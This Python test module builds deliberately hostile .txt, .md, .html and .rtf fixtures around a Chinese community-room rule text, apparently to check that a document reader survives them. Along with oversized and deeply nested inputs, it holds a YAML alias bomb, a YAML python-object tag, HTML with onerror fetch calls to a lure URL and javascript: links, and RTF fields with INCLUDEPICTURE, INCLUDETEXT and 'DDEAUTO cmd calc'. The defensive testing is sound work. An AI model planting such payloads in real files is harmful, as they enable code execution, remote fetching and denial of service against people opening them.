"""Text, web pages and rich text: what is easy to read and hard to understand."""

from __future__ import annotations

import random
from collections.abc import Callable
from itertools import pairwise

from hostile.hostile_file import SENTENCE, HostileFile, Lure, Read, converted, refused

_RULE = "青禾社区活动室规则\n第一条 为了用好活动室，制定本规则。\n第二条 " + SENTENCE + "\n"


def plain_files(lure: Lure) -> list[HostileFile]:
    """Return .txt, .md, .html and .rtf files."""
    return [
        HostileFile("text/random bytes.txt", _random, refused("不是", "编码", "损坏")),
        HostileFile("text/zeros.txt", lambda: bytes(1_000_000), refused("不是", "空", "正文")),
        HostileFile(
            "text/blanks.txt", lambda: " \n\t　\r\n".encode() * 9999, refused("空", "正文")
        ),
        HostileFile(
            "text/half a character.txt", lambda: _RULE.encode()[:-2], Read("活动室每晚九点半熄灯")
        ),
        HostileFile("text/brackets.txt", _rule("（" * 100_000), Read()),
        HostileFile("text/title marks.txt", _rule("《" * 100_000), Read()),
        HostileFile("text/ordinals.txt", _rule("第" * 100_000), Read()),
        HostileFile("text/endless number.txt", _rule("第" + "一" * 100_000 + "条"), Read()),
        HostileFile("text/endless digits.txt", _rule("第" + "9" * 100_000 + "条"), Read()),
        HostileFile("text/blank in a number.txt", _rule("第" + " " * 100_000 + "条"), Read()),
        HostileFile("text/no punctuation.txt", _rule("字" * 350_000), Read()),
        HostileFile("text/years.txt", _rule("2023年" * 60_000), Read()),
        HostileFile("text/dots.txt", _rule("目录\n" + "." * 900_000), Read()),
        HostileFile("text/marks on one letter.txt", _rule("é" + "\u0301" * 400_000), Read()),
        HostileFile("text/letters that grow.txt", _rule("\ufdfa" * 100_000), Read()),
        HostileFile(
            "text/200000 first articles.txt", lambda: "第一条\n".encode() * 200_000, Read("第一条")
        ),
        HostileFile("text/100000 annexes.txt", _rule("附件\n" * 100_000), Read()),
        HostileFile("text/50000 questions.txt", _rule("问：？\n答：\n" * 50_000), Read()),
        HostileFile("text/levels.txt", _rule("\n".join(_levels())), Read()),
        HostileFile(
            "text/heading of 300 KB.md", lambda: f"# {'题' * 100_000}\n{SENTENCE}".encode(), Read()
        ),
        HostileFile("text/100000 quotes.md", lambda: b">" * 100_000 + SENTENCE.encode(), Read()),
        HostileFile("text/100000 stars.md", lambda: ("*a_" * 100_000 + SENTENCE).encode(), Read()),
        HostileFile("text/aliases.md", _yaml_bomb, Read()),
        HostileFile(
            "text/object.md", lambda: _front("title: !!python/object/apply:os.getcwd []"), Read()
        ),
        HostileFile("web/scripts.html", lambda: _scripts(lure), Read()),
        HostileFile("web/100000 levels.html", lambda: _page("<div>" * 100_000), refused("嵌套")),
        HostileFile("web/300000 open tags.html", lambda: _page("<p><b><i>" * 100_000), Read()),
        HostileFile(
            "web/attribute of 2 MB.html", lambda: _page(f'<p title="{"a" * 2_000_000}">'), Read()
        ),
        HostileFile(
            "web/declared in utf-7.html", lambda: _page("+ADw-script+AD4-", "utf-7"), Read()
        ),
        HostileFile("web/entities.html", lambda: _page("&#0;&#x110000;&#xD800;&bogus;"), Read()),
        HostileFile("web/table over everything.html", _wide_table, Read()),
        HostileFile(
            "rich/100000 groups.rtf",
            lambda: _rtf("{" * 100_000),
            converted(refused("嵌套", "损坏")),
        ),
        HostileFile("rich/object.rtf", _rtf_object, converted(Read())),
        HostileFile(
            "rich/binary past the end.rtf",
            lambda: _rtf("\\bin2147483647 x"),
            refused("LibreOffice"),
        ),
        HostileFile("rich/fetches.rtf", lambda: _rtf_field(lure), converted(Read())),
    ]


def _random() -> bytes:
    return b"\xff\xfe\xfd" + random.Random(7).randbytes(300_000)  # noqa: S311


def _rule(line: str) -> Callable[[], bytes]:
    return lambda: f"{_RULE}{line}\n".encode()


def _levels() -> list[str]:
    return [("1." * level) + "级" for level in range(1, 900)]


def _front(line: str) -> bytes:
    return f"---\n{line}\n---\n{SENTENCE}\n".encode()


def _yaml_bomb() -> bytes:
    rows = ["a: &a [x,x,x,x,x,x,x,x,x]"]
    names = "abcdefghij"
    rows += [f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
    return _front("\n".join([*rows, "title: *j"]))


def _page(inside: str, charset: str = "utf-8") -> bytes:
    return (
        f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>活动室规则</title></head>'
        f"<body><p>{SENTENCE}</p>{inside}<p>{SENTENCE}</p></body></html>"
    ).encode()


def _scripts(lure: Lure) -> bytes:
    url = lure.url
    return _page(
        f'<base href="{url}/"><script src="x.js">while(true){{}}</script><img src="{url}/i.png" '
        f'onerror="fetch(\'{url}/e\')"><iframe src="{lure.file}"></iframe><link rel="stylesheet" '
        f'href="{url}/s.css"><meta http-equiv="refresh" content="0;{url}/r"><object data="{url}/o">'
        f'</object><svg onload="alert(1)"/><a href="javascript:alert(1)">{SENTENCE}</a>'
    )


def _wide_table() -> bytes:
    return _page('<table><tr><td colspan="99999999" rowspan="99999999">宽</td></tr></table>')


def _rtf(inside: str) -> bytes:
    text = "".join(f"\\u{ord(character)}?" for character in SENTENCE)
    return f"{{\\rtf1\\ansi {text}\\par {inside}}}".encode()


def _rtf_object() -> bytes:
    return _rtf("{\\object\\objocx\\objupdate{\\*\\objdata 0105000002000000" + "0b" * 50_000 + "}}")


def _rtf_field(lure: Lure) -> bytes:
    orders = (f"INCLUDEPICTURE {lure.url}/rtf", f'INCLUDETEXT "{lure.path}"', "DDEAUTO cmd calc")
    fields = "".join(f"{{\\field{{\\*\\fldinst {one}}}{{\\fldrslt x}}}}" for one in orders)
    return _rtf(f"{{\\*\\template {lure.url}/t.dot}}{fields}")
